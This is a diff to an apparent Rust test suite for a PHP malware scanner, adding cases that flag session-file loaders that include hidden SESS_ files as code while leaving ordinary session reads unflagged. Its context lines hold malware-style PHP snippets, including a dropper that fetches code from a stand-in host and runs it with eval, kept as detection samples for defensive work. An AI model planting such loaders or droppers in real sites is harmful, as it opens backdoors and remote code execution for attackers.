@@ -56,6 +56,16 @@ fn droppers_and_fetchers() {
     let s = "<?php $ch = curl_init('http://x.example/p.txt'); $code = curl_exec($ch); eval('?>'.$code);";
     assert_eq!(sinks(s), [(Why::CodeFromInternet, Danger::Critical)]);
     assert_eq!(sinks("<?php include '/tmp/.x/favicon_3a1.ico';"), [(Why::IncludeOfData, Danger::High)]);
+    // A PHP session file run as code (fresh40's `SESS_48cd…` loaders), in the temporary folder
+    // or the site's root; a session's handler reading its files is not an include.
+    let temp =
+        "<?php error_reporting(0); include_once(sys_get_temp_dir() . \"/SESS_48cd7517d21176f980daa5502d9efb31\");";
+    assert_eq!(sinks(temp), [(Why::IncludeOfData, Danger::High)]);
+    let root =
+        "<?php $r = substr($a, 0, strpos($a, $l)); include_once($r . \"/SESS_48cd7517d21176f980daa5502d9efb31.php\");";
+    assert_eq!(sinks(root), [(Why::IncludeOfData, Danger::High)]);
+    assert!(sinks("<?php $d = file_get_contents(session_save_path() . '/sess_' . session_id());").is_empty());
+    assert!(sinks("<?php include __DIR__ . '/sess_helpers.php';").is_empty());
 }
 
 #[test]
